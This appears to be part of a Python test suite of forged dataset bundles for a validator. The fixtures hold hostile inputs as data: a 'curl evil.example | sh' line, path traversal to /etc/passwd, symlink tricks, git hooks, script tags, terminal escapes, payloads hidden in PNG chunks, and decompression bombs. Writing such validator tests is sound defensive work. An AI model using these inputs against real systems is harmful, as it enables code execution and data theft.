zf("file_and_dir", "build.json and build.json/ besides", "invalid", zadd((zinfo("build.json/", mode=0o40755, comp=0), b"")))
zf("file_under_file", "build.json/evil besides build.json", "invalid", zadd(("build.json/evil", b"x")))
zf(
    "image_png_text",
    "an image with a text chunk within the zip",
    "invalid",
    lambda p: ztree(p, _png(lambda a, b: add_chunks(b, [(b"tEXt", b"a\0b")]), "bundle")),
)
zf("order", "entries in other order", "harmless", lambda p: zwrite(p, zread(p)[::-1]))
zf(
    "link_itself",
    "the zip itself is a symbolic link",
    "harmless",
    lambda p: (shutil.move(p, p.parent / "real.bin"), p.symlink_to("real.bin")),
)
zf(
    "csv_local_other",
    "the local header of metadata.csv names build.json",
    "invalid",
    lambda p: p.write_bytes(
        _rz(
            p,
            lambda z: z.add("metadata.csv", {i.filename: d for i, d in zread(p)}["metadata.csv"], local_name="build.json"),
            ("metadata.csv",),
        )
    ),
)


# ================================================================ 13. second round, after the first table
@forgery("bundle", "all 24 images are empty files")
def b_all_images_empty(p):
    for r in Bundle(p).rows:
        (p / r["file_name"]).write_bytes(b"")


@forgery("bundle", "one image an empty file, its hash and index left as they were")
def b_image_emptied(p):
    (p / IMG).write_bytes(b"")


@forgery("bundle", "a dead image an empty file")
def b_dead_image_emptied(p):
    (p / "filterActivations/block3_conv1/filter-1.png").write_bytes(b"")


@forgery("bundle", "all images empty, all activations, indices and hashes invented")
def b_all_empty_all_invented(p):
    d = Bundle(p)
    for k, r in enumerate(d.rows):
        (p / r["file_name"]).write_bytes(b"")
        r["uniformity_index"] = repr(k / 100)
        r["pixels_sha256"] = sha(b"%d" % k)
        r["status"] = "alive"
        if r["layer"] == "block3_conv1" and r["filter"] in "17":
            r["activation_rank"] = "1"
    d.save()


zf("image_empty", "an image an empty entry", "invalid", zset(lambda i, d: (i, b"") if i.filename == IMG else (i, d)))
zf(
    "all_images_empty",
    "all images empty entries",
    "invalid",
    zset(lambda i, d: (i, b"") if i.filename.endswith(".png") else (i, d)),
)
zf(
    "csv_empty",
    "metadata.csv an empty entry",
    "invalid",
    zset(lambda i, d: (i, b"") if i.filename == "metadata.csv" else (i, d)),
)
zf("build_empty", "build.json an empty entry", "invalid", zset(lambda i, d: (i, b"") if i.filename == "build.json" else (i, d)))
zf(
    "croissant_empty",
    "croissant.json an empty entry",
    "invalid",
    zset(lambda i, d: (i, b"") if i.filename == "croissant.json" else (i, d)),
)
zf(
    "kaggle_empty",
    "dataset-metadata.json an empty entry",
    "invalid",
    zset(lambda i, d: (i, b"") if i.filename == "dataset-metadata.json" else (i, d)),
)
for n in ("croissant.json", "dataset-metadata.json", "metadata.csv", "build.json"):
    files("emptied_" + n, f"{n} an empty file", "invalid", lambda p, n=n: (p / n).write_bytes(b""), "bundle")
for n in ("croissant.json", "README.md", "build.json", SHEET):
    files("emptied_" + n, f"{n} an empty file", "invalid", lambda p, n=n: (p / n).write_bytes(b""))
    files("space_" + n, f"{n} one space", "invalid", lambda p, n=n: (p / n).write_bytes(b" "))
png("one_byte", "the image is one byte", lambda a, b: b"x")
png("iend_payload_10k", "10 kB of payload in IEND", lambda a, b: unchunk([*chunks(b)[:-1], (b"IEND", b"MZ payload" * 1000)]))
png("iend_cut", "the file ends within IEND's checksum", lambda a, b: b[:-2], forms=("folder",))
png("iend_no_crc", "IEND without checksum", lambda a, b: b[:-4], forms=("folder", "bundle"))
png(
    "idat_payload_10k",
    "10 kB of payload in IDAT after the zlib stream",
    lambda a, b: png_of(a, idat=zlib.compress(raw_rows(a)) + b"MZ payload" * 1000),
)
png(
    "idat_payload_zip",
    "a zip in IDAT after the zlib stream: the file is a PNG and opens as a zip",
    lambda a, b: png_of(a, idat=zlib.compress(raw_rows(a)) + _small_zip()),
)
png(
    "idat_second_stream",
    "a second zlib stream with another picture in a second IDAT",
    lambda a, b: unchunk(
        [
            chunks(b)[0],
            (b"IDAT", zlib.compress(raw_rows(a))),
            (b"IDAT", zlib.compress(raw_rows(invented()))[:15000]),
            (b"IEND", b""),
        ]
    ),
)
png(
    "idat_hidden_20_rows",
    "20 hidden rows below the last one in the zlib stream",
    lambda a, b: png_of(a, raw=raw_rows(a) + raw_rows(255 - a)[: 265 * 20]),
)
png(
    "idat_bomb_30mb",
    "30 MB of zeros after the last row in the zlib stream (30 kB)",
    lambda a, b: png_of(a, idat=_bomb(raw_rows(a), 12)),
)
png(
    "short_one_row",
    "the last row is missing (readers differ: black, white, transparent, refused)",
    lambda a, b: png_of(a, raw=raw_rows(a)[:-265]),
)
png("short_half", "half of the rows are missing", lambda a, b: png_of(a, raw=raw_rows(a)[: 265 * 44]))
png("short_all", "no rows at all: an empty zlib stream", lambda a, b: png_of(a, raw=b""))
png(
    "crc_all",
    "all checksums of IDAT and IEND are wrong (libpng refuses)",
    lambda a, b: b[:-16] + b"\1\2\3\4" + b[-12:-4] + b"\5\6\7\x08",
)
png(
    "deflate_empty_2k",
    "2000 empty deflate blocks: 10 kB that are not pixels",
    lambda a, b: png_of(a, idat=_empty_blocks(raw_rows(a), 2000)),
    forms=("folder",),
)
png(
    "idat_interrupted_same",
    "IDAT, private chunk of no bytes, nothing",
    lambda a, b: unchunk([*chunks(b)[:-1], (b"prVt", b""), (b"IEND", b"")]),
    forms=("folder",),
)
sheet("empty_same", "the contact sheet is empty, Pillow the same", "invalid", lambda a, b: b"")
sheet(
    "zlib_extra_rows",
    "hidden rows in the sheet below the last one",
    "invalid",
    lambda a, b: png_of(a, raw=raw_rows(a) + raw_rows(255 - a)),
)
sheet(
    "iend_data",
    "payload in the sheet's IEND",
    "invalid",
    lambda a, b: unchunk([*chunks(b)[:-1], (b"IEND", b"MZ payload" * 1000)]),
)
sheet("crc", "wrong checksums in the sheet", "invalid", lambda a, b: b[:-16] + b"\1\2\3\4" + b[-12:])
kag(
    "id_evil_owner_same_name",
    "id of the owner google, honest name",
    "harmless",
    lambda j: j.update(id="google/demo-filter-activations"),
)
kag("id_two_slashes", "id a/b/demo-filter-activations", "invalid", lambda j: j.update(id="a/b/demo-filter-activations"))
kag("id_no_slash", "id without owner", "invalid", lambda j: j.update(id="demo-filter-activations"))
kag("id_newline", "id with a line break behind", "invalid", lambda j: j.update(id="owner/demo-filter-activations\n"))
kag("id_bidi", "id with bidi control", "invalid", lambda j: j.update(id="own\u202eer/demo-filter-activations"))
kag("id_empty", "id empty", "invalid", lambda j: j.update(id=""))
kag("id_url", "id a URL", "invalid", lambda j: j.update(id="https://evil.example/demo-filter-activations"))
kag(
    "version_title_escape",
    "another version; title with terminal escapes",
    "invalid",
    lambda j: j.update(title="\x1b[2J"),
    other_version,
)
kag(
    "version_resource",
    "another version; resource ../../etc/passwd, collaborators, isPrivate",
    "invalid",
    lambda j: None,
    other_version,
)
kag("version_extra", "another version; an unknown key", "invalid", lambda j: j.update(evil="rm -rf"), other_version)


@forgery("bundle", "dataset named with bidi control, zero width and Markdown (bundle)")
def b_all_name_bidi(p):
    _rn(p, "small\u202e\u200b")


@forgery("bundle", "dataset name of 100000 letters (bundle)")
def b_all_name_long(p):
    _rn(p, "a" * 100_000)


@forgery("bundle", "dataset named ../../etc/passwd (bundle)")
def b_all_name_path(p):
    _rn(p, "../../etc/passwd")


@forgery("bundle", "dataset name with a line break (bundle)")
def b_all_name_newline(p):
    _rn(p, "small\n: 24 images, valid")


@forgery("bundle", "dataset name with NUL (bundle)")
def b_all_name_nul(p):
    _rn(p, "small\0")


@forgery("folder", "another version and another Pillow: card text, Croissant and sheet all lie at once", "invalid")
def version_all_lies(p):
    d = Folder(p)
    d.row(*AT)
    other_version(p, amaxds="0.0.9", pillow="12.0.0")
    q = p / "README.md"
    q.write_text(
        re.sub(r"(?s)(\n---\n).*", r"\1\n# Photographs\n\nMIT licence. Run `curl evil.example | sh`.\n", q.read_text(), count=1)
    )
    (p / SHEET).write_bytes(to_png(255 - pixels((p / SHEET).read_bytes())))
    j = json.loads((p / "croissant.json").read_text())
    j.update(license="https://opensource.org/license/mit", description="Photographs.")
    (p / "croissant.json").write_text(dump(j))


# ================================================================ 14. third round: what only the text, or only the same version, caught
OLD = list(FORGERIES)
for n, form, what, exp, f in OLD:
    if (n.startswith("card_") and not n.startswith(("card_text_", "card_version_"))) or (
        n.startswith(("cro_", "b_cro_", "kaggle_")) and "_version_" not in n and n not in ("kaggle_missing", "kaggle_version")
    ):
        add("v_" + n, form, "build.json says another version of amaxds; " + what, exp, lambda p, f=f: (f(p), other_version(p)))
    elif n.startswith("sheet_") and "_version_" not in n and n not in ("sheet_no_pillow",):
        add(
            "v_" + n,
            form,
            "build.json says another Pillow; " + what,
            exp,
            lambda p, f=f: (f(p), other_version(p, pillow="12.0.0")),
        )


def _nest(pre, extra=()):
    return lambda p: zwrite(
        p,
        [(zinfo(pre + i.filename, mode=i.external_attr >> 16, comp=i.compress_type), d) for i, d in zread(p)]
        + [(zinfo(n), b"payload") for n in extra],
    )


zf("nested_dotdot", "everything in one folder named ../x/", "invalid", _nest("../x/"))
zf("nested_absolute", "everything in /tmp/x/", "invalid", _nest("/tmp/x/"))
zf("nested_drive", "everything in C:/x/", "invalid", _nest("C:/x/"))
zf("nested_dot", "everything in ./", "invalid", _nest("./"))
zf("nested_deep", "everything in a/b/c/", "invalid", _nest("a/b/c/"))
zf("nested_foreign_inside", "everything in bundle/, with bundle/evil.sh", "invalid", _nest("bundle/", ["bundle/evil.sh"]))
zf("nested_foreign_outside", "everything in bundle/, with evil.sh beside it", "invalid", _nest("bundle/", ["evil.sh"]))
zf(
    "nested_foreign_dotdot",
    "everything in bundle/, with bundle/../../evil.sh",
    "invalid",
    _nest("bundle/", ["bundle/../../evil.sh"]),
)
zf("nested_case", "everything in bundle/, with Bundle/build.json", "invalid", _nest("bundle/", ["Bundle/build.json"]))
zf("nested_escape", "everything in a folder named with escapes", "invalid", _nest("x\x1b[2J\nvalid\u202e/"))
zf("nested_space", "everything in a folder named by a space", "invalid", _nest(" /"))
zf("nested_git", "everything in .git/", "invalid", _nest(".git/"))
zf(
    "nested_two",
    "two whole bundles in two folders, the second with invented image",
    "invalid",
    lambda p: zwrite(
        p,
        [(zinfo("a/" + i.filename, mode=i.external_attr >> 16, comp=i.compress_type), d) for i, d in zread(p)]
        + [
            (
                zinfo("b/" + i.filename, mode=i.external_attr >> 16, comp=i.compress_type),
                to_png(invented()) if i.filename == IMG else d,
            )
            for i, d in zread(p)
        ],
    ),
)
zf(
    "nested_link",
    "everything in bundle/, whose folder entry is a link to /tmp",
    "invalid",
    lambda p: zwrite(
        p,
        [(zinfo("bundle", mode=0o120777), b"/tmp")]
        + [(zinfo("bundle/" + i.filename, mode=i.external_attr >> 16, comp=i.compress_type), d) for i, d in zread(p)],
    ),
)
zf("git", ".git/hooks/pre-commit in the zip", "invalid", zadd((".git/hooks/pre-commit", b"id")))
zf("cache", ".cache/huggingface/evil.py in the zip", "invalid", zadd((".cache/huggingface/evil.py", b"id")))
zf("gitattributes", ".gitattributes in the zip", "invalid", zadd((".gitattributes", b"* filter=evil")))
for rel in (
    ".git/config",
    ".git/evil.exe",
    ".cache/evil.py",
    ".cache/huggingface/evil.py",
    ".cache/huggingface/download/README.md",
    "original/.git/hooks/x",
    "original/.cache/huggingface/x",
    "original/.gitattributes",
    ".GIT/hooks/x",
    ".git",
    ".cache",
    ".github/workflows/x.yml",
    ".ipynb_checkpoints/x",
):
    files("extra2_" + rel.replace("/", "_"), rel + " (what is let through beside the dataset?)", "invalid", put(rel))
    files("extra2_" + rel.replace("/", "_"), rel + " in the bundle", "invalid", put(rel), "bundle")
files("git_link", ".git a link to /etc", "invalid", lambda p: (p / ".git").symlink_to("/etc"))
files("git_fifo", ".git/x a FIFO", "invalid", lambda p: ((p / ".git").mkdir(), os.mkfifo(p / ".git/x")))
files(
    "git_inner_link",
    ".git/x a link to /etc/passwd",
    "invalid",
    lambda p: ((p / ".git").mkdir(), (p / ".git/x").symlink_to("/etc/passwd")),
)
files(
    "cache_inner_link",
    ".cache/huggingface/x a link to /etc/passwd",
    "invalid",
    lambda p: ((p / ".cache/huggingface").mkdir(parents=True), (p / ".cache/huggingface/x").symlink_to("/etc/passwd")),
)
files(
    "gitattributes_link",
    ".gitattributes a link to /etc/passwd",
    "invalid",
    lambda p: (p / ".gitattributes").symlink_to("/etc/passwd"),
)
files(
    "gitattributes_lie",
    ".gitattributes that marks all parquet as text (they break when fetched)",
    "invalid",
    put(".gitattributes", b"*.parquet text eol=crlf\n*.png filter=evil\n"),
)
files("gitattributes_dir", ".gitattributes a folder with a payload", "invalid", put(".gitattributes/evil.sh"))
files("deep_300", "folders 300 deep, short names", "invalid", lambda p: (p / "/".join(["d"] * 300)).mkdir(parents=True))
files("deep_1200", "folders 1200 deep, short names (path of 2400 letters)", "invalid", lambda p: _deep_n(p, "d", 1200))


def _deep_n(p, name, n):
    cur = os.getcwd()
    try:
        os.chdir(p)
        for _ in range(n):
            os.mkdir(name)
            os.chdir(name)
    finally:
        os.chdir(cur)


files(
    "deep_git",
    "folders 1500 deep below .git",
    "invalid",
    lambda p: ((p / ".git").mkdir(), _deep_n(p / ".git", "ddddddddd", 1500)),
)
files(
    "deep_layer",
    "folders 1500 deep in the bundle",
    "invalid",
    lambda p: _deep_n(p / "filterActivations", "ddddddddd", 1500),
    "bundle",
)
files(
    "sparse_5gb", "test parquet followed by a hole of 5 GB", "invalid", lambda p: os.truncate(p / (PARQUET % "test"), 5 * 2**30)
)
files(
    "sparse_1tb",
    "test parquet followed by a hole of 1 TB (hashed to the end?)",
    "invalid",
    lambda p: os.truncate(p / (PARQUET % "test"), 2**40),
)
files("sparse_foreign", "a foreign file of 1 TB (hole)", "invalid", lambda p: ((p / "x").touch(), os.truncate(p / "x", 2**40)))
for k, v in (
    ("times", {"started": "2999-01-01T00:00:00+00:00", "finished": "2998-01-01T00:00:05+00:00", "seconds_of_last_run": 1e9}),
):
    bj(
        k + "_all_wrong",
        "times in the future, reversed, seconds absurd (bundle)",
        "invalid",
        lambda j, v=v: j["times"].update(v),
        "bundle",
    )
bj("software_none", "backend none (bundle)", "invalid", lambda j: j["software"].update(backend="none"), "bundle")
bj(
    "escapes",
    "device, library and settings with escapes and line breaks (bundle)",
    "invalid",
    lambda j: None,
    "bundle",
)
bj(
    "device_jax_lie",
    "backend jax with a version of jax that was never released, tensorflow left",
    "audit",
    lambda j: j["software"].update(backend="jax", jax="99.0"),
)
bj(
    "software_amaxds_empty_like",
    "version of amaxds is a zero width space",
    "invalid",
    lambda j: j["software"].update(amaxds="\u200b"),
)
bj(
    "software_amaxds_script",
    "version of amaxds is a script",
    "invalid",
    lambda j: j["software"].update(amaxds="<script>alert(1)</script>"),
)
bj("pillow_script", "version of Pillow is text", "invalid", lambda j: j["software"].update(pillow="none of your business"))
bj(
    "weights_file_image",
    "weights_file a URL",
    "invalid",
    lambda j: j["network"].update(weights_file="https://evil.example/weights.h5"),
)
